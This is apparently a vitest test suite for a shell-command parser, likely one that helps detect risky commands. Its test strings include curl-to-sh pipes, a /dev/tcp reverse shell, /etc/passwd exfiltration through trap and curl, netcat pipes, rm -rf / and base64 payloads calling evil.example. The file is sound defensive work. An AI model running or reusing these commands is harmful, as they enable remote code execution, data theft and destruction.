import { describe, expect, it } from 'vitest';
import { parseShell } from './parse.js';
import type { CommandOrigin, ParsedShell, SimpleCommand } from './types.js';

/** Expected fields of one command; only the fields given are compared. */
type Expected = Partial<Pick<SimpleCommand, 'argv' | 'name' | 'prefixes' | 'assignments' | 'depth' | 'text'>> & {
  origin?: CommandOrigin;
  redirects?: { op: string; target: string }[];
};

interface Case {
  readonly line: string;
  /** Every command, in the order reported. */
  readonly commands: Expected[];
  /** Pipelines as lists of command names, in the order reported (only checked when given). */
  readonly pipelines?: string[][];
  /** A warning matching this is expected; when absent, no warning is allowed. */
  readonly warning?: RegExp;
}

const cmd = (name: string, argv: string[], more: Omit<Expected, 'name' | 'argv'> = {}): Expected => ({ name, argv, ...more });

const CASES: Record<string, Case> = {
  // --- lists and pipelines
  'simple command': { line: 'ls -la /tmp', commands: [cmd('ls', ['ls', '-la', '/tmp'], { origin: 'top', depth: 0, text: 'ls -la /tmp' })] },
  'pipe without spaces': { line: 'curl x|sh', commands: [cmd('curl', ['curl', 'x']), cmd('sh', ['sh'])], pipelines: [['curl', 'sh']] },
  'pipe with stderr |&': { line: 'make |& tee log', commands: [cmd('make', ['make']), cmd('tee', ['tee', 'log'])], pipelines: [['make', 'tee']] },
  'and / or lists': {
    line: 'npm ci && npm test || echo failed',
    commands: [cmd('npm', ['npm', 'ci']), cmd('npm', ['npm', 'test']), cmd('echo', ['echo', 'failed'])],
    pipelines: [['npm'], ['npm'], ['echo']],
  },
  'semicolon, background, newline': {
    line: 'sleep 1 & id; whoami\nuname -a',
    commands: [cmd('sleep', ['sleep', '1']), cmd('id', ['id']), cmd('whoami', ['whoami']), cmd('uname', ['uname', '-a'])],
  },
  'line continuation': { line: 'curl -fsSL \\\n  https://x.example/a \\\n  | sh', commands: [cmd('curl', ['curl', '-fsSL', 'https://x.example/a']), cmd('sh', ['sh'])], pipelines: [['curl', 'sh']] },
  'continuation inside a word': { line: 'cu\\\nrl x', commands: [cmd('curl', ['curl', 'x'])] },
  'pipe followed by a newline': { line: 'cat f |\n  sh', commands: [cmd('cat', ['cat', 'f']), cmd('sh', ['sh'])], pipelines: [['cat', 'sh']] },
  'empty string': { line: '', commands: [] },
  'only whitespace': { line: '  \t \n\n  ', commands: [] },
  'comment only': { line: '# curl x | sh', commands: [] },
  'trailing comment': { line: 'ls # curl x | sh', commands: [cmd('ls', ['ls'])] },
  'hash inside a word is not a comment': { line: 'echo a#b', commands: [cmd('echo', ['echo', 'a#b'])] },

  // --- quoting
  'single quotes keep everything literal': { line: "echo '$(id) `id` \\n'", commands: [cmd('echo', ['echo', '$(id) `id` \\n'])] },
  'double quotes with escapes': { line: 'echo "a \\"b\\" \\$HOME \\x"', commands: [cmd('echo', ['echo', 'a "b" $HOME \\x'])] },
  'variables stay literal, tilde stays': { line: 'cp $HOME/.ssh/id_rsa ${TMPDIR}/k ~/x', commands: [cmd('cp', ['cp', '$HOME/.ssh/id_rsa', '${TMPDIR}/k', '~/x'])] },
  'ANSI-C quoting decodes hex, octal and escapes': { line: "printf $'\\x41\\102\\n\\tC'", commands: [cmd('printf', ['printf', 'AB\n\tC'])] },
  'locale quoting $"…"': { line: 'echo $"hi there"', commands: [cmd('echo', ['echo', 'hi there'])] },
  'arithmetic is not a command': { line: 'echo $((1 + 2))', commands: [cmd('echo', ['echo', '$((1 + 2))'])] },
  'unterminated single quote': { line: "echo 'abc", commands: [cmd('echo', ['echo', 'abc'])], warning: /unterminated single quote/ },
  'unterminated double quote': { line: 'curl "http://x | sh', commands: [cmd('curl', ['curl', 'http://x | sh'])], warning: /unterminated double quote/ },

  // --- evasions of the command name
  'backslashes inside names': { line: 'c\\url x | s\\h', commands: [cmd('curl', ['curl', 'x']), cmd('sh', ['sh'])], pipelines: [['curl', 'sh']] },
  'quotes inside names': { line: "'c'url x | \"s\"h", commands: [cmd('curl', ['curl', 'x']), cmd('sh', ['sh'])] },
  'ANSI-C hex name': { line: "$'\\x63url' http://x", commands: [cmd('curl', ['curl', 'http://x'])] },
  'absolute path': { line: '/usr/bin/curl -s x', commands: [cmd('curl', ['/usr/bin/curl', '-s', 'x'])] },
  'upper case': { line: 'CURL X', commands: [cmd('curl', ['CURL', 'X'], { text: 'CURL X' })] },
  // ${IFS} is not expanded: the word stays whole, so rules see `curl${ifs}x` (and can flag ${IFS} itself).
  '${IFS} stays literal': { line: 'curl${IFS}x|sh', commands: [cmd('curl${ifs}x', ['curl${IFS}x']), cmd('sh', ['sh'])] },

  // --- assignments, redirects
  'leading assignments': { line: 'A=1 B="x y" make', commands: [cmd('make', ['make'], { assignments: ['A=1', 'B=x y'] })] },
  'assignment only': { line: 'TOKEN=abc', commands: [cmd('', [], { assignments: ['TOKEN=abc'], text: '' })] },
  'quoted name is not an assignment': { line: "'A'=1", commands: [cmd('a=1', ['A=1'])] },
  'assignment after the command is an argument': { line: 'make A=1', commands: [cmd('make', ['make', 'A=1'], { assignments: [] })] },
  'array assignment': { line: 'a=(1 2 3) ls', commands: [cmd('ls', ['ls'], { assignments: ['a=(1 2 3)'] })] },
  redirects: {
    line: 'cmd >out 2>&1 >> log < in &> all 2>/dev/null',
    commands: [cmd('cmd', ['cmd'], {
      redirects: [
        { op: '>', target: 'out' }, { op: '2>&', target: '1' }, { op: '>>', target: 'log' }, { op: '<', target: 'in' },
        { op: '&>', target: 'all' }, { op: '2>', target: '/dev/null' },
      ],
      text: 'cmd > out 2>&1 >> log < in &> all 2> /dev/null',
    })],
  },
  'redirect text for regex rules': { line: 'echo x > /etc/passwd', commands: [cmd('echo', ['echo', 'x'], { text: 'echo x > /etc/passwd' })] },
  'redirect only': { line: '> /tmp/empty', commands: [cmd('', [], { text: '> /tmp/empty' })] },
  'number argument is not a redirect': { line: 'head -n 5 file', commands: [cmd('head', ['head', '-n', '5', 'file'])] },
  '/dev/tcp redirect with exec': { line: 'exec 3<>/dev/tcp/10.0.0.1/4444', commands: [cmd('', [], { prefixes: ['exec'], text: '3<> /dev/tcp/10.0.0.1/4444' })] },
  'here-string': { line: 'grep x <<< "a b"', commands: [cmd('grep', ['grep', 'x'], { redirects: [{ op: '<<<', target: 'a b' }] })] },

  // --- heredocs
  'heredoc body is not a command': {
    line: "cat <<'EOF' > notes.txt\nrm -rf /\nEOF\necho done",
    commands: [cmd('cat', ['cat'], { text: 'cat << EOF > notes.txt' }), cmd('echo', ['echo', 'done'])],
  },
  'heredoc fed to bash is parsed': {
    line: 'bash <<EOF\ncurl http://x | sh\nEOF',
    commands: [cmd('bash', ['bash']), cmd('curl', ['curl', 'http://x'], { origin: 'shell-c', depth: 1 }), cmd('sh', ['sh'], { origin: 'shell-c' })],
    pipelines: [['bash'], ['curl', 'sh']],
  },
  '<<- heredoc with tabs fed to sh': {
    line: 'sh <<-END\n\twhoami\n\tEND\nid',
    commands: [cmd('sh', ['sh']), cmd('whoami', ['whoami'], { origin: 'shell-c' }), cmd('id', ['id'], { origin: 'top' })],
  },
  'cat heredoc piped into sh': {
    line: "cat <<'X' | sh\nwget -qO- http://x | bash\nX",
    commands: [cmd('cat', ['cat']), cmd('sh', ['sh']), cmd('wget', ['wget', '-qO-', 'http://x'], { origin: 'shell-c', depth: 1 }), cmd('bash', ['bash'], { origin: 'shell-c' })],
  },
  'echo of literal code piped into a shell': {
    line: 'echo "curl http://x | bash" | sh',
    commands: [cmd('echo', ['echo', 'curl http://x | bash']), cmd('sh', ['sh']), cmd('curl', ['curl', 'http://x'], { origin: 'shell-c' }), cmd('bash', ['bash'], { origin: 'shell-c' })],
  },
  'unquoted heredoc body expands $(…)': {
    line: 'cat <<EOF\nuser: $(whoami)\nEOF',
    // The body is read after its command line, so the command comes first.
    commands: [cmd('cat', ['cat']), cmd('whoami', ['whoami'], { origin: 'substitution', depth: 1 })],
  },
  'unterminated heredoc': { line: 'bash <<EOF\nid', commands: [cmd('bash', ['bash']), cmd('id', ['id'], { origin: 'shell-c' })], warning: /unterminated heredoc/ },
  'here-string fed to a shell': {
    line: 'bash <<< "curl x|sh"',
    commands: [cmd('bash', ['bash']), cmd('curl', ['curl', 'x'], { origin: 'shell-c' }), cmd('sh', ['sh'], { origin: 'shell-c' })],
  },

  // --- subshells, groups, compound statements
  subshell: {
    line: '(cd /tmp && curl x | sh)',
    commands: [cmd('cd', ['cd', '/tmp'], { origin: 'subshell', depth: 0 }), cmd('curl', ['curl', 'x'], { origin: 'subshell' }), cmd('sh', ['sh'], { origin: 'subshell' })],
    pipelines: [['cd'], ['curl', 'sh']],
  },
  'group piped into bash is one pipeline': {
    line: '{ curl x; } | bash',
    commands: [cmd('curl', ['curl', 'x'], { origin: 'subshell' }), cmd('bash', ['bash'], { origin: 'top' })],
    pipelines: [['curl'], ['curl', 'bash']],
  },
  'unterminated subshell': { line: '(id; whoami', commands: [cmd('id', ['id']), cmd('whoami', ['whoami'])], warning: /unterminated \(/ },
  'if / then / fi': {
    line: 'if curl -s x | grep -q ok; then rm -rf /tmp/a; else echo no; fi',
    commands: [cmd('curl', ['curl', '-s', 'x']), cmd('grep', ['grep', '-q', 'ok']), cmd('rm', ['rm', '-rf', '/tmp/a']), cmd('echo', ['echo', 'no'])],
  },
  'while loop fed by process substitution': {
    line: 'while read l; do echo $l; done < <(curl -s x)',
    commands: [cmd('read', ['read', 'l']), cmd('echo', ['echo', '$l']), cmd('curl', ['curl', '-s', 'x'], { origin: 'process-substitution', depth: 1 })],
  },
  'for loop header is not a command': {
    line: 'for f in $(ls *.sh); do bash $f; done',
    commands: [cmd('ls', ['ls', '*.sh'], { origin: 'substitution' }), cmd('bash', ['bash', '$f'])],
  },
  'case statement': {
    line: 'case "$1" in start|up) ./run.sh;; *) curl x | sh;; esac',
    commands: [cmd('run.sh', ['./run.sh']), cmd('curl', ['curl', 'x']), cmd('sh', ['sh'])],
  },
  'function definition': { line: 'f() { rm -rf ~; }; f', commands: [cmd('rm', ['rm', '-rf', '~']), cmd('f', ['f'])] },
  '[[ conditional ]] keeps its operators': {
    line: '[[ -f x && $a > 1 ]] && echo ok',
    commands: [cmd('[[', ['[[', '-f', 'x', '&&', '$a', '>', '1', ']]']), cmd('echo', ['echo', 'ok'])],
  },
  'negation': { line: '! grep -q x f', commands: [cmd('grep', ['grep', '-q', 'x', 'f'])] },

  // --- substitutions
  'command substitution': {
    line: 'echo $(whoami)',
    commands: [cmd('whoami', ['whoami'], { origin: 'substitution', depth: 1 }), cmd('echo', ['echo', '$(whoami)'], { depth: 0 })],
  },
  'nested substitutions': {
    line: 'echo $(cat $(ls /etc/*.conf))',
    commands: [
      cmd('ls', ['ls', '/etc/*.conf'], { depth: 2, origin: 'substitution' }),
      cmd('cat', ['cat', '$(ls /etc/*.conf)'], { depth: 1 }),
      cmd('echo', ['echo', '$(cat $(ls /etc/*.conf))'], { depth: 0 }),
    ],
  },
  'substitution inside double quotes': { line: 'echo "user=$(id -un)"', commands: [cmd('id', ['id', '-un'], { origin: 'substitution' }), cmd('echo', ['echo', 'user=$(id -un)'])] },
  backticks: { line: 'echo `uname -a`', commands: [cmd('uname', ['uname', '-a'], { origin: 'substitution', depth: 1 }), cmd('echo', ['echo', '`uname -a`'])] },
  'substitution in ${…} default': { line: 'echo ${X:-$(id)}', commands: [cmd('id', ['id'], { origin: 'substitution' }), cmd('echo', ['echo', '${X:-$(id)}'])] },
  'unterminated substitution': { line: 'echo $(id', commands: [cmd('id', ['id']), cmd('echo', ['echo', '$(id'])], warning: /unterminated \$\(/ },
  'sh <(curl x) keeps the word': {
    line: 'sh <(curl -s http://x/i.sh)',
    commands: [cmd('curl', ['curl', '-s', 'http://x/i.sh'], { origin: 'process-substitution', depth: 1 }), cmd('sh', ['sh', '<(curl -s http://x/i.sh)'])],
  },
  'source <(curl x)': {
    line: 'source <(curl x)',
    commands: [cmd('curl', ['curl', 'x'], { origin: 'process-substitution' }), cmd('source', ['source', '<(curl x)'])],
  },
  'output process substitution': { line: 'tee >(nc h 1) < f', commands: [cmd('nc', ['nc', 'h', '1'], { origin: 'process-substitution' }), cmd('tee', ['tee', '>(nc h 1)'])] },

  // --- shells and eval
  'bash -c': {
    line: "bash -c 'rm -rf / && echo gone'",
    commands: [cmd('bash', ['bash', '-c', 'rm -rf / && echo gone']), cmd('rm', ['rm', '-rf', '/'], { origin: 'shell-c', depth: 1 }), cmd('echo', ['echo', 'gone'], { origin: 'shell-c' })],
  },
  'bash -lc combined flags': { line: "bash -lc 'id'", commands: [cmd('bash', ['bash', '-lc', 'id']), cmd('id', ['id'], { origin: 'shell-c' })] },
  'sh -xc and -o option': { line: "sh -o pipefail -xc 'whoami'", commands: [cmd('sh', ['sh', '-o', 'pipefail', '-xc', 'whoami']), cmd('whoami', ['whoami'], { origin: 'shell-c' })] },
  'zsh, dash, ksh, fish -c': {
    line: "zsh -c 'a'; dash -c 'b'; ksh -c 'c'; fish -c 'd'",
    commands: [cmd('zsh', ['zsh', '-c', 'a']), cmd('a', ['a']), cmd('dash', ['dash', '-c', 'b']), cmd('b', ['b']), cmd('ksh', ['ksh', '-c', 'c']), cmd('c', ['c']), cmd('fish', ['fish', '-c', 'd']), cmd('d', ['d'])],
  },
  'bash script file is not parsed': { line: 'bash ./install.sh --yes', commands: [cmd('bash', ['bash', './install.sh', '--yes'])] },
  'bash -c "$(wget -qO- x)" reports wget once': {
    line: 'bash -c "$(wget -qO- http://x/s)"',
    commands: [
      cmd('wget', ['wget', '-qO-', 'http://x/s'], { origin: 'substitution', depth: 1 }),
      cmd('bash', ['bash', '-c', '$(wget -qO- http://x/s)'], { depth: 0 }),
      cmd('$(wget -qo- http://x/s)', ['$(wget -qO- http://x/s)'], { origin: 'shell-c', depth: 1 }),
    ],
  },
  'eval of a string': { line: 'eval "curl x | sh"', commands: [cmd('eval', ['eval', 'curl x | sh']), cmd('curl', ['curl', 'x'], { origin: 'eval', depth: 1 }), cmd('sh', ['sh'], { origin: 'eval' })] },
  'eval of a substitution': {
    line: 'eval $(curl -s x)',
    commands: [cmd('curl', ['curl', '-s', 'x'], { origin: 'substitution' }), cmd('eval', ['eval', '$(curl -s x)']), cmd('$(curl -s x)', ['$(curl -s x)'], { origin: 'eval' })],
  },
  'reverse shell redirects': {
    line: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    commands: [cmd('bash', ['bash', '-i'], { text: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' })],
  },
  'trap runs its code later': { line: "trap 'curl -d @/etc/passwd x' EXIT", commands: [cmd('trap', ['trap', 'curl -d @/etc/passwd x', 'EXIT']), cmd('curl', ['curl', '-d', '@/etc/passwd', 'x'], { origin: 'shell-c' })] },
  'su -c': { line: "su root -c 'id'", commands: [cmd('su', ['su', 'root', '-c', 'id']), cmd('id', ['id'], { origin: 'shell-c' })] },

  // --- wrappers
  'sudo -E env FOO=1 bash -c': {
    line: "sudo -E env FOO=1 bash -c 'rm -rf /'",
    commands: [
      cmd('bash', ['bash', '-c', 'rm -rf /'], { prefixes: ['sudo', 'env'], assignments: ['FOO=1'] }),
      cmd('rm', ['rm', '-rf', '/'], { origin: 'shell-c', depth: 1, prefixes: [] }),
    ],
  },
  'sudo -u root with options': { line: 'sudo -u root -H --preserve-env=PATH -- cat /etc/shadow', commands: [cmd('cat', ['cat', '/etc/shadow'], { prefixes: ['sudo'] })] },
  'sudo -l runs nothing': { line: 'sudo -l', commands: [cmd('sudo', ['sudo', '-l'], { prefixes: [] })] },
  'doas': { line: 'doas -u root rm -rf /var', commands: [cmd('rm', ['rm', '-rf', '/var'], { prefixes: ['doas'] })] },
  'env -i -u X': { line: 'env -i -u HOME PATH=/bin sh', commands: [cmd('sh', ['sh'], { prefixes: ['env'], assignments: ['PATH=/bin'] })] },
  'env -S splits its string': { line: "env -S 'bash -c id'", commands: [cmd('bash', ['bash', '-c', 'id'], { prefixes: ['env'] }), cmd('id', ['id'], { origin: 'shell-c' })] },
  'command, builtin, exec, nohup, time': {
    line: 'command ls; builtin echo x; exec -a name sh; nohup ./a & time -p make',
    commands: [
      cmd('ls', ['ls'], { prefixes: ['command'] }), cmd('echo', ['echo', 'x'], { prefixes: ['builtin'] }),
      cmd('sh', ['sh'], { prefixes: ['exec'] }), cmd('a', ['./a'], { prefixes: ['nohup'] }), cmd('make', ['make'], { prefixes: ['time'] }),
    ],
  },
  'command -v only looks up': { line: 'command -v curl', commands: [cmd('command', ['command', '-v', 'curl'], { prefixes: [] })] },
  'nice, ionice, timeout, stdbuf': {
    line: 'nice -n 5 ionice -c 3 timeout -s KILL 5s stdbuf -oL curl x',
    commands: [cmd('curl', ['curl', 'x'], { prefixes: ['nice', 'ionice', 'timeout', 'stdbuf'] })],
  },
  'xargs with -I{} sh -c': {
    line: "ls | xargs -0 -n 1 -I{} sh -c 'cat {} | nc h 1'",
    commands: [
      cmd('ls', ['ls']), cmd('sh', ['sh', '-c', 'cat {} | nc h 1'], { prefixes: ['xargs'] }),
      cmd('cat', ['cat', '{}'], { origin: 'shell-c' }), cmd('nc', ['nc', 'h', '1'], { origin: 'shell-c' }),
    ],
    // A pipeline is recorded when it closes, so nested pipelines come before the one holding them.
    pipelines: [['cat', 'nc'], ['ls', 'sh']],
  },
  'busybox applet': { line: 'busybox wget -O- x', commands: [cmd('wget', ['wget', '-O-', 'x'], { prefixes: ['busybox'] })] },
  'watch runs its argument through sh -c': {
    line: 'watch -n 1 "id | nc h 1"',
    commands: [cmd('id | nc h 1', ['id | nc h 1'], { prefixes: ['watch'] }), cmd('id', ['id'], { origin: 'shell-c' }), cmd('nc', ['nc', 'h', '1'], { origin: 'shell-c' })],
  },
  'wrapper by path': { line: '/usr/bin/sudo /bin/rm -rf /', commands: [cmd('rm', ['/bin/rm', '-rf', '/'], { prefixes: ['sudo'] })] },
  'find -exec is an ordinary command': { line: 'find . -name "*.tmp" -exec rm {} \\;', commands: [cmd('find', ['find', '.', '-name', '*.tmp', '-exec', 'rm', '{}', ';'])] },

  // --- base64 payloads
  'echo base64 | base64 -d | sh': {
    line: 'echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh',
    commands: [
      cmd('echo', ['echo', 'Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==']), cmd('base64', ['base64', '-d']), cmd('sh', ['sh']),
      cmd('curl', ['curl', 'http://evil.example/x'], { origin: 'decoded', depth: 1 }), cmd('sh', ['sh'], { origin: 'decoded', depth: 1 }),
    ],
    pipelines: [['echo', 'base64', 'sh'], ['curl', 'sh']],
  },
  'printf %s payload | base64 --decode': {
    line: "printf '%s' aWQ= | base64 --decode | bash",
    commands: [cmd('printf', ['printf', '%s', 'aWQ=']), cmd('base64', ['base64', '--decode']), cmd('bash', ['bash']), cmd('id', ['id'], { origin: 'decoded' })],
  },
  'here-string into base64 -D': {
    line: 'base64 -D <<< d2hvYW1p | sh',
    commands: [cmd('base64', ['base64', '-D']), cmd('sh', ['sh']), cmd('whoami', ['whoami'], { origin: 'decoded' })],
  },
  'openssl enc -base64 -d': {
    line: 'echo aWQ= | openssl enc -base64 -d | sh',
    commands: [cmd('echo', ['echo', 'aWQ=']), cmd('openssl', ['openssl', 'enc', '-base64', '-d']), cmd('sh', ['sh']), cmd('id', ['id'], { origin: 'decoded' })],
  },
  'binary payload is not parsed': { line: 'echo AAECAwQF | base64 -d > blob', commands: [cmd('echo', ['echo', 'AAECAwQF']), cmd('base64', ['base64', '-d'])] },
  'encoding (not decoding) is not parsed': { line: 'echo aWQ= | base64', commands: [cmd('echo', ['echo', 'aWQ=']), cmd('base64', ['base64'])] },
  'decoded payload inside eval substitution': {
    line: 'eval "$(echo d2hvYW1p | base64 -d)"',
    commands: [
      cmd('echo', ['echo', 'd2hvYW1p'], { depth: 1 }), cmd('base64', ['base64', '-d'], { depth: 1 }),
      cmd('whoami', ['whoami'], { origin: 'decoded', depth: 2 }),
      cmd('eval', ['eval', '$(echo d2hvYW1p | base64 -d)']),
      // eval runs the substitution's output: a command whose name is the substitution itself.
      cmd('$(echo d2hvyw1p | base64 -d)', ['$(echo d2hvYW1p | base64 -d)'], { origin: 'eval', depth: 1 }),
    ],
  },
};

function namesOfPipelines(parsed: ParsedShell): string[][] {
  return parsed.pipelines.map((p) => p.commands.map((i) => parsed.commands[i]!.name));
}

describe('parseShell', () => {
  it.each(Object.entries(CASES))('%s', (_title, c) => {
    const parsed = parseShell(c.line);
    expect(parsed.commands).toMatchObject(c.commands);
    if (c.pipelines) expect(namesOfPipelines(parsed)).toEqual(c.pipelines);
    if (c.warning) expect(parsed.warnings.some((w) => c.warning!.test(w))).toBe(true);
    else expect(parsed.warnings).toEqual([]);
  });
});

/** Every command sits in exactly the pipeline slot it claims. */
function expectConsistent(parsed: ParsedShell): void {
  parsed.commands.forEach((command, index) => {
    expect(parsed.pipelines[command.pipeline]?.commands[command.position]).toBe(index);
    if (command.argv.length === 0) expect(command.name).toBe('');
  });
}

/** A small deterministic generator, so a failing input can be reproduced from its seed. */
function randomLines(seed: number, count: number): string[] {
  const pieces = [
    'a', 'b ', ' ', '$', '(', ')', '{ ', ' }', '[[ ', ']]', "'", '"', '`', '\\', '|', '&', ';', '<', '>', '\n', '\t', '#',
    '=', '-', '!', '2', 'EOF', 'bash -c ', 'eval ', 'echo aWQ= ', '| base64 -d ', 'sh', '<<', '<(', '$(', '${', "$'", 'case ',
    ' in ', ' esac', 'for ', ' do ', ' done', 'if ', ' fi', '\\\n',
  ];
  let state = seed;
  const next = (n: number): number => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return state % n;
  };
  return Array.from({ length: count }, () => Array.from({ length: next(60) }, () => pieces[next(pieces.length)]).join(''));
}

describe('parseShell on hostile input', () => {
  it('parses 64 KiB of a 1 MB line and says so', () => {
    const parsed = parseShell(`echo ${'A'.repeat(1 << 20)}`);
    expect(parsed.commands).toHaveLength(1);
    expect(parsed.commands[0]!.argv[1]).toHaveLength(64 * 1024 - 5);
    expect(parsed.warnings.join()).toMatch(/only the start was parsed/);
  });

  it('stops at the nesting limit for 100 nested $(…)', () => {
    let line = 'id';
    for (let i = 0; i < 100; i++) line = `echo $(${line})`;
    const parsed = parseShell(line);
    expect(parsed.warnings.join()).toMatch(/nesting limit/);
    expect(Math.max(...parsed.commands.map((c) => c.depth))).toBe(8);
    expect(parsed.commands.at(-1)).toMatchObject({ name: 'echo', depth: 0 });
    expectConsistent(parsed);
  });

  it('stops at the nesting limit for nested bash -c and backticks', () => {
    let line = 'id';
    for (let i = 0; i < 12; i++) line = `bash -c ${JSON.stringify(line).replace(/\$/g, '\\$')}`;
    const bash = parseShell(line);
    expect(bash.warnings.join()).toMatch(/nesting limit/);
    expect(bash.commands.filter((c) => c.name === 'bash')).toHaveLength(9);
    const ticks = parseShell('`'.repeat(60_000));
    expect(ticks.warnings.join()).not.toMatch(/internal/);
  });

  it('survives 100,000 open parentheses, braces and substitutions', () => {
    for (const line of ['('.repeat(100_000), '{ '.repeat(50_000), '$('.repeat(50_000), '"$('.repeat(30_000), '<('.repeat(30_000)]) {
      const parsed = parseShell(line);
      expect(parsed.warnings.join()).not.toMatch(/internal/);
      expect(parsed.warnings.length).toBeGreaterThan(0);
    }
  });

  it('caps the number of commands', () => {
    const parsed = parseShell('a;'.repeat(30_000));
    expect(parsed.commands).toHaveLength(20_000);
    expect(parsed.warnings.join()).toMatch(/command limit/);
  });

  it('never throws and stays consistent on random shell-like input', () => {
    for (const line of randomLines(42, 3000)) {
      const parsed = parseShell(line);
      expect(parsed.warnings.filter((w) => w.startsWith('internal')), line).toEqual([]);
      expectConsistent(parsed);
    }
  });

  it('treats a non-string input as an empty line', () => {
    const parsed = parseShell(undefined as unknown as string);
    expect(parsed.commands).toEqual([]);
  });
});
